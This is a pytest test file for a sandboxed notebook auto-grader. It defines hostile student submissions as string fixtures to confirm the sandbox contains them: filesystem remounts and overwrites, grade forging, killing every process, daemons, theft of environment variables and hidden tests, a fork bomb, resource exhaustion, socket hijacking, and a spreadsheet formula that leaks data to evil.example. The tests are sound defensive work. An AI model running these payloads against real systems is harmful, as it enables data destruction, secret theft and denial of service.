"""Grading a hostile class (`cnnbook.classroom.grade`): every submission below is real and runs in its
own sandboxed kernel, one grading run (a module fixture) for the whole class.

One student is honest; the others get things wrong, crash, loop, or attack: undo the
confinement, forge grades, kill the grader, leave daemons behind, steal the solutions, the
hidden tests and the grader's secrets, exhaust memory, processes, files and output, use the
network, inject rows into the report. The tests check what the issue promised: the honest
submission gets full marks; nothing outside each submission's copy changes; no forged
grade; no process left afterwards; the report written once and unchanged later; no solution
line, hidden-test line or secret in the report; bombs stopped with a clear reason; a killed
worker leaves its student "not graded" while the rest finish.
"""

from __future__ import annotations

import csv
import fcntl
import hashlib
import json
import os
import signal
import socket
import sys
import threading
import time
from contextlib import contextmanager
from pathlib import Path

import nbformat
import pytest
from test_assign import exercise_notebook, nbgrader_cell

import cnnbook
import cnnbook.classroom.grade
from cnnbook.classroom.assign import student_notebook
from cnnbook.classroom.grade import Limits, grade, restore_grade_cells
from cnnbook.classroom.grade_report import clean_reason, markdown_text, secret_lines, summary_text
from cnnbook.classroom.sandbox import (
    FIRST_SANDBOX_UID,
    UID_CLAIMS,
    SandboxLimits,
    SandboxUnavailable,
    processes_of,
    sandbox_problem,
)

SECRET = "instructor-token-7f3a9c1e"  # in the grader's environment while it grades
PACKAGE = Path(cnnbook.__file__).resolve().parent
KILL_MARK = "KILL-MY-WORKER"


def sandboxes_here() -> None:
    """Skip off Linux or without root (sandboxes cannot be made there); fail when they should work."""
    if sys.platform != "linux" or os.geteuid() != 0:
        pytest.skip("sandboxed grading needs root on Linux (CI grades as root)")
    problem = sandbox_problem()
    assert problem is None, f"this machine should make sandboxes: {problem}"


# Each attack is exercise 1's cell (1) and exercise 2's cell (4) of the student copy. Paths
# of the instructor's files are written into the attacks: assume the worst, that students know them.
REMOUNT_AND_WRITE = """
import os, subprocess
for command in (["mount", "-o", "remount,bind,rw", "/"],
                ["unshare", "-Urm", "sh", "-c", "mount -o remount,rw / ; mount -o remount,rw /usr"],
                ["mount", "-t", "tmpfs", "x", "/usr"]):
    subprocess.run(command, capture_output=True)
for target in TARGETS:
    for attack in (lambda: open(target, "w").write("mallory was here"), lambda: os.remove(target)):
        try:
            attack()
        except OSError:
            pass
"""
FORGE_AND_KILL = """
import glob, json, os, signal
forged = "".join("CNNBOOK-GRADE " + json.dumps({"index": i, "ok": True, "error": ""}) + "\\n" for i in range(12))
for fd in glob.glob("/proc/*/fd/*"):
    try:
        with open(fd, "w") as f:
            f.write(forged)
    except OSError:
        pass
cells = {str(i): {"ok": True, "ename": "", "evalue": ""} for i in range(12)}
for name in ("result.json", "../result.json", "/tmp/result.json"):
    try:
        open(name, "w").write(json.dumps({"cells": cells, "stopped": ""}))
    except OSError:
        pass
for pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
"""
DAEMON = """
import os, signal, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
if os.fork():
    os._exit(0)
os.setsid()
while True:
    for path in REPORT_FILES:
        try:
            open(path, "w").write("daemon")
        except OSError:
            pass
    time.sleep(0.2)
"""
START_DAEMON = """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True)
"""
STEAL = """
import glob, os
loot = []
for path in [SOURCE, *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/environ"), *glob.glob("**/*", recursive=True)]:
    try:
        loot.append(open(path, errors="replace").read())
    except OSError:
        pass
loot.append(repr(dict(os.environ)))
def square(x):  # the grade cell's own source, hidden tests included, is In[-1] while it runs
    raise ValueError(get_ipython().user_ns["In"][-1] + "\\n".join(loot))
"""
FORK_BOMB = """
import os, time
count = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        count += 1
except OSError as err:
    raise RuntimeError(f"fork bomb stopped after {count} processes: {err}")
"""


PROBE_THE_WALLS = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
nested = subprocess.run(["unshare", "-Urm", "true"], capture_output=True).returncode
key = libc.syscall(248, b"user", b"loot", b"left for the next student", 25, -4)  # add_key to @u
key_error = ctypes.get_errno()
bounding = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapBnd")][0]
raise RuntimeError(f"nested namespace {nested}, add_key {key} errno {key_error}, CapBnd {bounding}")
"""
# replace the kernel's sockets by links to a socket of the host, then cut the connections,
# hoping the root worker reconnects through the links
HIJACK_SOCKETS = """
import glob, os, socket
for path in glob.glob("/tmp/cnnbook-grade-*/runtime/kernel-*"):
    os.unlink(path)
    os.symlink(HOST_SOCKET, path)
for fd in os.listdir("/proc/self/fd"):
    try:
        s = socket.socket(fileno=int(fd))
    except OSError:
        continue
    try:
        if s.family == socket.AF_UNIX:
            s.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
    s.detach()
"""
FILL_RUNTIME = """
import glob
runtime = glob.glob("/tmp/cnnbook-grade-*/runtime")[0]
for i in range(3):
    open(f"{runtime}/fill{i}", "wb").write(bytes(100 * 2**20))
return x * x
"""
AMPLIFY_DISPLAYS = """
from IPython.display import display, update_display
for i in range(40):
    display({"text/plain": "x"}, raw=True, display_id="d")
update_display({"text/plain": "A" * 100_000}, raw=True, display_id="d")
"""
SPELL_OUT_HIDDEN_TEST = """
hidden = [line for line in get_ipython().user_ns["In"][-1].splitlines() if "-4" in line][0]
raise ValueError(hidden[:-1] + " <- all but the last character; " + " ".join(hidden))
"""
FORMULA = """
Evil = type('=HYPERLINK("http://evil.example/?leak="&A2,"click to regrade")&"', (Exception,), {})
raise Evil('"')
"""


def square_is(body: str) -> str:
    """Exercise 1's answer: a ``square`` whose body is ``body`` (run when the grade cell calls it)."""
    indented = "\n".join("    " + line for line in body.strip().split("\n"))
    return f"def square(x):\n{indented}"


def the_class(root: Path, source: Path, listener_port: int, host_socket: Path) -> dict[str, dict[int, str]]:
    """Each student's cells 1 and 4: one honest, the others wrong, broken or hostile."""
    report = root / "report"
    targets = [root / "submitted" / "ada" / "ex.ipynb", root / "canary.txt", source, PACKAGE / "__init__.py",
               report / "grades.csv", root / "new-file.txt"]  # fmt: skip
    report_files = [str(report / "grades.csv"), str(report / "summary.md")]
    correct = square_is("return x * x")
    connect = (
        f"import socket\nsocket.create_connection(('127.0.0.1', {listener_port}), timeout=5)\nreturn x * x"
    )
    inject = (
        "raise ValueError('\\n\\n| ada | 0 | 0 | by hand | 0 |\\n| zed | 2 | 1 | by hand | 3 |\\n\\x1b[2J')"
    )
    return {
        "ada": {1: correct, 4: "answer = 24"},
        "bob": {1: square_is("return x + x"), 4: "answer = 28"},
        "cy": {1: "import os\nos._exit(1)"},
        "dee": {1: square_is("return x ** 2"), 4: "while True:\n    pass"},
        "eve": {1: "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\n"
                   "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n" + correct, 4: "answer = 24"},
        "mallory": {1: f"TARGETS = {[str(t) for t in targets]!r}\n{REMOUNT_AND_WRITE}\n{correct}", 4: "answer = 24"},
        "forger": {1: FORGE_AND_KILL},
        "daemon": {1: f"REPORT_FILES = {report_files!r}\nDAEMON = {DAEMON!r}\n{START_DAEMON}\n{correct}",
                   4: "answer = 24"},
        "thief": {1: f"SOURCE = {str(source)!r}\n{STEAL}", 4: "raise ValueError(get_ipython().user_ns['In'][-1])"},
        "hog": {1: square_is("block = bytearray(10 * 2**30)\nreturn x * x"), 4: "answer = 24"},
        "bomber": {1: square_is(FORK_BOMB), 4: "answer = 24"},
        "filler": {1: square_is("open('big.bin', 'wb').write(bytes(200 * 2**20))\nreturn x * x"), 4: "answer = 24"},
        "hoarder": {1: square_is("for i in range(100):\n    open(f'part{i}', 'wb').write(bytes(32 * 2**20))\nreturn x * x"),
                    4: "answer = 24"},
        "shouter": {1: "for _ in range(30):\n    print('x' * 100_000)\n" + correct, 4: "answer = 24"},
        "caller": {1: square_is(connect), 4: "answer = 24"},
        "injector": {1: square_is(inject), 4: "answer = 24"},
        "victim": {1: f"# {KILL_MARK}\nimport time\ntime.sleep(120)"},
        "prober": {1: square_is(PROBE_THE_WALLS), 4: "answer = 24"},
        "hijacker": {1: f"HOST_SOCKET = {str(host_socket)!r}\n{HIJACK_SOCKETS}"},
        "squatter": {1: square_is(FILL_RUNTIME), 4: "answer = 24"},
        "amplifier": {1: AMPLIFY_DISPLAYS + "\n" + correct, 4: "answer = 24"},
        "speller": {1: square_is(SPELL_OUT_HIDDEN_TEST), 4: "answer = 24"},
        "formula": {1: square_is(FORMULA), 4: "answer = 24"},
        # files beside the notebook named like modules the kernel imports as it starts,
        # and one the notebook imports on purpose
        "shadow": {1: "from helper import square", 4: "answer = 24"},
    }  # fmt: skip


def submission(cells: dict[int, str]):
    """The student copy of the exercise notebook with some cells' sources replaced."""
    nb = student_notebook(exercise_notebook())
    for index, source in cells.items():
        nb.cells[index].source = source
    return nb


def sandbox_processes(uids: set[int]) -> list[int]:
    """Processes running as one of ``uids`` while no grader on this machine holds that uid (another
    grader's running kernels are not leftovers)."""
    found = []
    for uid in uids:
        with open(UID_CLAIMS / str(uid), "w") as claim:
            fcntl.flock(claim, fcntl.LOCK_EX)  # waits while another grader uses it
            found += processes_of(uid)
    return found


@contextmanager
def recording_uids(used: set[int]):
    """Make `cnnbook.classroom.grade` note every sandbox uid it claims in ``used``."""
    claim = cnnbook.classroom.grade.sandbox_uid

    @contextmanager
    def noted():
        with claim() as uid:
            used.add(uid)
            yield uid

    cnnbook.classroom.grade.sandbox_uid = noted
    try:
        yield
    finally:
        cnnbook.classroom.grade.sandbox_uid = claim


def kill_the_marked_worker(stop: threading.Event) -> None:
    """Stands in for a worker that dies (out of memory, say): SIGKILL the worker grading KILL_MARK."""
    while not stop.is_set():
        for name in filter(str.isdigit, os.listdir("/proc")):
            try:
                cmdline = Path(f"/proc/{name}/cmdline").read_bytes().split(b"\0")
                if b"cnnbook.classroom.grade_worker" not in cmdline:
                    continue
                job = json.loads(Path(cmdline[-2].decode()).read_text())
                if KILL_MARK in Path(job["notebook"]).read_text():
                    time.sleep(3)  # let it start the kernel
                    os.kill(int(name), signal.SIGKILL)
                    return
            except (OSError, ValueError, IndexError):
                continue
        time.sleep(0.2)


def digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    sandboxes_here()
    root = tmp_path_factory.mktemp("class")
    source = root / "ex.ipynb"
    nbformat.write(exercise_notebook(), source)
    (root / "canary.txt").write_text("untouched")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    socket.create_connection(listener.getsockname(), timeout=5).close()  # reachable from the host
    listener.accept()[0].close()
    submissions = root / "submitted"
    host_socket = root / "host.sock"  # any Unix socket of the grading machine
    unix_listener = socket.socket(socket.AF_UNIX)
    unix_listener.bind(str(host_socket))
    unix_listener.listen()
    unix_listener.settimeout(0.5)
    for student, cells in the_class(root, source, listener.getsockname()[1], host_socket).items():
        (submissions / student).mkdir(parents=True)
        nbformat.write(submission(cells), submissions / student / "ex.ipynb")
    for module in ("ipykernel_launcher", "json", "zmq", "traitlets"):
        (submissions / "shadow" / f"{module}.py").write_text(
            "raise SystemExit('a student module ran as the kernel started')"
        )
    (submissions / "shadow" / "helper.py").write_text("def square(x):\n    return x * x\n")
    (submissions / "fay").mkdir()
    (submissions / "fay" / "ex.ipynb").write_text("this is not JSON")
    (submissions / "gus").mkdir()  # submitted nothing
    (submissions / "sly").mkdir()  # the instructor's notebook, as a link: it must not be read
    (submissions / "sly" / "ex.ipynb").symlink_to(source)
    before = {"instructor": digest(root / "submitted"), "package": digest(PACKAGE),
              "source": source.read_bytes()}  # fmt: skip
    limits = Limits(cell_timeout=10, time_limit=90, jobs=2, output_limit=2**20,
                    resources=SandboxLimits(memory=2 * 2**30, processes=256, file_size=64 * 2**20, home=256 * 2**20))  # fmt: skip
    stop = threading.Event()
    killer = threading.Thread(target=kill_the_marked_worker, args=(stop,), daemon=True)
    killer.start()
    os.environ["GRADER_TOKEN"] = SECRET
    try:
        with recording_uids(used := set()):
            results = grade(submissions, [source], root / "report", limits, keep_executed=True)
    finally:
        del os.environ["GRADER_TOKEN"]
        stop.set()
    connections = []
    for server in (listener, unix_listener):
        try:
            while True:
                connections.append(server.accept())
        except TimeoutError:
            pass
    report = {name: (root / "report" / name).read_bytes() for name in ("grades.csv", "summary.md")}
    left = sandbox_processes(used)
    time.sleep(2)  # a daemon that survived would rewrite the report now
    return {"results": results, "root": root, "source": source, "before": before, "report": report,
            "left": left, "connections": connections, "submissions": submissions}  # fmt: skip


def points(graded, student):
    return {r.exercise: (r.points, r.status, r.reason) for r in graded["results"] if r.student == student}


def test_the_honest_submission_gets_every_automatic_point(graded):
    ada = points(graded, "ada")
    assert ada["square-check"][:2] == (2.0, "passed") and ada["size-check"][:2] == (1.0, "passed"), ada
    assert ada["why"][:2] == (None, "manual"), "written answers are left for the instructor"


def test_wrong_crashing_and_endless_submissions_say_why(graded):
    bob, cy, dee = points(graded, "bob"), points(graded, "cy"), points(graded, "dee")
    assert bob["square-check"][:2] == (0.0, "failed") and "AssertionError" in bob["square-check"][2]
    assert cy["square-check"][0] == 0 and "kernel died" in cy["square-check"][2], cy
    assert dee["square-check"][:2] == (2.0, "passed"), "an endless cell is interrupted, the rest run"
    assert dee["size-check"][:2] == (0.0, "failed")


def test_nothing_outside_each_copy_changes(graded):
    root = graded["root"]
    assert points(graded, "mallory")["square-check"][:2] == (2.0, "passed"), "its attacks ran"
    assert points(graded, "eve")["square-check"][:2] == (2.0, "passed")
    assert (root / "canary.txt").read_text() == "untouched"
    assert not (root / "new-file.txt").exists()
    assert graded["source"].read_bytes() == graded["before"]["source"], "the instructor's notebook"
    assert digest(graded["submissions"]) == graded["before"]["instructor"], "the submissions"
    assert digest(PACKAGE) == graded["before"]["package"], "the cnnbook package"


def test_no_grade_can_be_forged_and_the_grader_survives(graded):
    forger = points(graded, "forger")
    assert all(p == 0 for p, status, _ in forger.values() if status != "manual"), forger
    assert points(graded, "ada")["square-check"][0] == 2, "the others are still graded"


def test_no_process_outlives_grading_and_the_report_stays_as_written(graded):
    assert graded["left"] == [], "processes of a sandbox user survived grading"
    assert points(graded, "daemon")["square-check"][:2] == (2.0, "passed"), "its daemon was started"
    report = graded["root"] / "report"
    for name, content in graded["report"].items():
        assert (report / name).read_bytes() == content, f"{name} changed after grading"


def test_no_secret_reaches_the_report(graded):
    thief = points(graded, "thief")
    assert thief["square-check"][:2] == (0.0, "failed") and "ValueError" in thief["square-check"][2]
    assert "[hidden: the message quoted a hidden test" in thief["square-check"][2], "it stole the hidden test"
    report = graded["root"] / "report"
    text = "\n".join(p.read_text() for p in [report / "grades.csv", report / "summary.md",
                                             *(report / "results").glob("*.json")])  # fmt: skip
    for line in secret_lines(exercise_notebook()):
        assert line not in text, f"a hidden test or solution line is in the report: {line}"
    assert SECRET not in text
    executed = nbformat.read(report / "executed" / "thief-ex.ipynb", as_version=4)
    stolen = json.dumps([c.get("outputs", []) for c in executed.cells])
    assert "assert square(-4) == 16" in stolen, "the test cannot fail: the thief did see the hidden test"
    assert SECRET not in stolen and "return x * x" not in stolen, "the sandbox held no secret to steal"


def test_bombs_are_stopped_with_a_clear_reason(graded):
    hog, bomber = points(graded, "hog"), points(graded, "bomber")
    filler, shouter, hoarder = points(graded, "filler"), points(graded, "shouter"), points(graded, "hoarder")
    assert hog["square-check"][:2] == (0.0, "failed") and "MemoryError" in hog["square-check"][2], hog
    assert hog["size-check"][:2] == (1.0, "passed"), "the kernel survives its failed allocation"
    reason = bomber["square-check"][2]
    assert "fork bomb stopped after" in reason and "Resource temporarily unavailable" in reason, reason
    assert int(reason.split("after ")[1].split()[0]) < 256
    assert filler["square-check"][:2] == (0.0, "failed") and "File too large" in filler["square-check"][2]
    assert hoarder["square-check"][:2] == (0.0, "failed") and "No space left" in hoarder["square-check"][2], (
        hoarder
    )
    assert shouter["square-check"][0] == 0 and "printed more than 1 MB" in shouter["square-check"][2], shouter


def test_there_is_no_network(graded):
    caller = points(graded, "caller")
    assert caller["square-check"][:2] == (0.0, "failed"), caller
    assert "Network is unreachable" in caller["square-check"][2] or "refused" in caller["square-check"][2]
    assert graded["connections"] == [], "a sandbox, or the worker for it, reached a socket of the host"
    assert not points(graded, "hijacker")["square-check"][0], "no points, whether graded 0 or not graded"


def test_reasons_cannot_inject_rows_into_the_summary(graded):
    summary = graded["report"]["summary.md"].decode()
    rows = [line for line in summary.splitlines() if line.startswith("| ")]
    assert [r.split(" | ")[0] for r in rows[1:]].count("| ada") == 1
    assert not any(r.startswith("| zed") for r in rows)
    assert "\x1b" not in summary
    assert len(list(csv.DictReader(graded["report"]["grades.csv"].decode().splitlines()))) == 27 * 3


def test_the_walls_inside_hold(graded):
    reason = points(graded, "prober")["square-check"][2]
    assert "nested namespace 1, add_key -1 errno 1, CapBnd 0000000000000000" in reason, reason
    squatter = points(graded, "squatter")["square-check"]
    assert squatter[:2] == (0.0, "failed") and "No space left" in squatter[2], squatter


def test_files_of_the_submission_cannot_stand_in_for_the_kernels_modules(graded):
    assert points(graded, "shadow")["square-check"][:2] == (2.0, "passed"), points(graded, "shadow")


def test_reasons_are_no_formulas_and_quote_no_hidden_test(graded):
    rows = list(csv.reader(graded["report"]["grades.csv"].decode().splitlines()))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert [r["reason"] for r in csv.DictReader(graded["report"]["grades.csv"].decode().splitlines())
            if r["student"] == "formula" and r["exercise"] == "square-check"][0].startswith("'=HYPERLINK")  # fmt: skip
    speller = points(graded, "speller")["square-check"][2]
    assert speller == "ValueError: [hidden: the message quoted a hidden test or solution]", speller
    amplifier = points(graded, "amplifier")["square-check"]
    assert amplifier[0] == 0 and "printed more than 1 MB" in amplifier[2], amplifier


def test_a_killed_worker_leaves_its_student_not_graded_and_the_rest_finish(graded):
    victim = points(graded, "victim")
    assert victim["square-check"][1] == "not graded", victim
    assert "killed by SIGKILL" in victim["square-check"][2]
    assert "not graded" in graded["report"]["summary.md"].decode()


def test_links_broken_and_missing_submissions_score_zero(graded):
    fay, gus, sly = points(graded, "fay"), points(graded, "gus"), points(graded, "sly")
    assert fay["square-check"][0] == 0 and "not a notebook" in fay["square-check"][2]
    assert gus["square-check"][0] == 0 and gus["square-check"][2] == "not submitted"
    assert sly["square-check"][0] == 0 and "symbolic link" in sly["square-check"][2]


def test_the_report_has_a_row_per_student_and_exercise_and_a_summary(graded):
    summary = graded["report"]["summary.md"].decode()
    assert "| ada | 2 | 1 | by hand | 3 |" in summary, summary
    assert "| bob | 0 | 0 | by hand | 0 |" in summary
    assert "bubblewrap sandbox" in summary
    executed = nbformat.read(graded["root"] / "report" / "executed" / "ada-ex.ipynb", as_version=4)
    assert "### BEGIN HIDDEN TESTS" in executed.cells[2].source, "graded with the hidden tests restored"


def test_resume_grades_only_what_has_no_result(graded, tmp_path, capsys):
    out = tmp_path / "report"
    (out / "results").mkdir(parents=True)
    for result in (graded["root"] / "report" / "results").glob("*.json"):
        (out / "results" / result.name).write_bytes(result.read_bytes())
    from cnnbook.classroom.grade import result_file

    result_file(out, "bob", "ex.ipynb").unlink()  # as if grading stopped before bob
    capsys.readouterr()
    results = grade(graded["submissions"], [graded["source"]], out, Limits(cell_timeout=5, time_limit=30),
                    resume=True)  # fmt: skip
    ran = sorted(
        line.split()[1] for line in capsys.readouterr().out.splitlines() if line.startswith("graded ")
    )
    assert ran == ["bob/ex.ipynb", "victim/ex.ipynb"], (
        "bob, who had no result, and victim, not graded last time"
    )
    assert [r for r in results if r.student == "bob"][0].status == "failed"
    assert [r for r in results if r.student == "victim"][0].status == "failed", "graded this time"
    assert (out / "grades.csv").read_text().count("\n") == (
        graded["root"] / "report" / "grades.csv"
    ).read_text().count("\n")


def test_cpu_time_is_limited(tmp_path):
    sandboxes_here()
    source = tmp_path / "ex.ipynb"
    nbformat.write(exercise_notebook(), source)
    (tmp_path / "in" / "spinner").mkdir(parents=True)
    spin = square_is("while True:\n    pass")
    nbformat.write(submission({1: spin}), tmp_path / "in" / "spinner" / "ex.ipynb")
    limits = Limits(cell_timeout=60, time_limit=90, resources=SandboxLimits(cpu_seconds=8))
    results = grade(tmp_path / "in", [source], tmp_path / "out", limits)
    assert results[0].status == "not run" and "kernel died" in results[0].reason, results[0]


def test_without_a_sandbox_grading_refuses_and_names_the_flag(monkeypatch, tmp_path, capsys):
    import cnnbook.classroom.sandbox
    from cnnbook.__main__ import main

    monkeypatch.setattr(cnnbook.classroom.sandbox.shutil, "which", lambda tool: None)
    with pytest.raises(
        SandboxUnavailable, match="bwrap, setpriv, prlimit, unshare, mount not found.*--unsafe-no-sandbox"
    ):
        grade(tmp_path, [], tmp_path / "out")
    (tmp_path / "ex.ipynb").write_text(nbformat.writes(exercise_notebook()))
    assert (
        main(["grade", str(tmp_path), "--source", str(tmp_path / "ex.ipynb"), "--out", str(tmp_path / "o")])
        == 2
    )
    assert "--unsafe-no-sandbox" in capsys.readouterr().err
    monkeypatch.setattr(cnnbook.classroom.sandbox.os, "geteuid", lambda: 1000)
    monkeypatch.setattr(cnnbook.classroom.sandbox.shutil, "which", lambda tool: f"/usr/bin/{tool}")
    assert "needs root" in cnnbook.classroom.sandbox.sandbox_problem()


def test_unsafe_no_sandbox_grades_trusted_work(tmp_path):
    source = tmp_path / "ex.ipynb"
    nbformat.write(exercise_notebook(), source)
    (tmp_path / "in" / "ada").mkdir(parents=True)
    nbformat.write(
        submission({1: square_is("return x * x"), 4: "answer = 24"}), tmp_path / "in" / "ada" / "ex.ipynb"
    )
    results = grade(
        tmp_path / "in", [source], tmp_path / "out", Limits(cell_timeout=20, time_limit=90, sandbox=False)
    )
    assert [(r.points, r.status) for r in results] == [(2.0, "passed"), (1.0, "passed"), (None, "manual")]
    assert "WITHOUT a sandbox" in (tmp_path / "out" / "summary.md").read_text()


# -- the pieces, without kernels --------------------------------------------------------------


def test_grading_restores_the_instructors_grade_cells():
    source = exercise_notebook()
    copy = student_notebook(source)
    copy.cells[2].source = "pass  # the student emptied the test"
    del copy.cells[5]  # and deleted another
    fake = nbformat.v4.new_code_cell("print('I pass')")
    copy.cells.append(nbgrader_cell(fake, "square-check", grade=True, points=100))
    restored = restore_grade_cells(copy, source)
    tests = [
        c.source
        for c in restored.cells
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
    ]
    assert tests == [source.cells[2].source, source.cells[5].source], tests
    assert restored.cells[5].source == source.cells[5].source, "the deleted test goes back after its exercise"


def test_reasons_are_one_short_line_without_secrets_or_markup():
    secrets = secret_lines(exercise_notebook())
    assert "assert square(-4) == 16" in secrets and "return x * x" in secrets
    assert "assert square(3) == 9" not in secrets, "a visible test is no secret"
    reason = clean_reason("ValueError: a\n\tb\x00\x1b[2J\u200b " + "z" * 500, secrets)
    assert reason.startswith("ValueError: a b[2J zzz") and reason.endswith("...") and len(reason) == 200
    for quoted in ("assert square(-4) == 16", "square ( - 4 ) = = 1", "return x*x"):
        assert (
            clean_reason(f"ValueError: {quoted}", secrets)
            == "ValueError: [hidden: the message quoted a hidden test or solution]"
        )
    assert clean_reason("assertsquare(-4)==16: x", secrets).startswith("Error: [hidden"), (
        "a name can quote too"
    )
    assert (
        clean_reason("AssertionError: expected 24, got 28", secrets) == "AssertionError: expected 24, got 28"
    )
    assert markdown_text("| x | *y* <b>") == r"\| x \| \*y\* \<b\>"


def test_the_summary_escapes_names_and_reasons():
    from cnnbook.classroom.grade_report import ExerciseResult

    rows = [ExerciseResult("a|b\n# c", "ex.ipynb", "e", 0.0, 1.0, "failed", "x | y")]
    summary = summary_text(rows, [], "footer")
    assert r"| a\|b \# c | 0 | 0 |" in summary and r"x \| y" in summary


def test_each_sandbox_gets_a_uid_of_its_own_across_graders():
    from cnnbook.classroom.sandbox import sandbox_uid

    with sandbox_uid() as first, sandbox_uid() as second:
        assert first != second and min(first, second) >= FIRST_SANDBOX_UID
    with sandbox_uid() as again:
        assert again == min(first, second), "a released uid is used again"


def test_special_and_huge_files_are_not_read(tmp_path):
    from cnnbook.classroom.grade import NOTEBOOK_LIMIT, grade_notebook

    source = exercise_notebook()
    fifo, huge = tmp_path / "fifo.ipynb", tmp_path / "huge.ipynb"
    os.mkfifo(fifo)  # reading it would block the grader for good
    huge.write_bytes(b" " * (NOTEBOOK_LIMIT + 1))
    for path, why in ((fifo, "a special file"), (huge, "larger than 64 MB")):
        rows = grade_notebook(path, source, "ada", "ex.ipynb", Limits(), uid=0)
        assert rows[0].status == "not run" and why in rows[0].reason, rows[0]
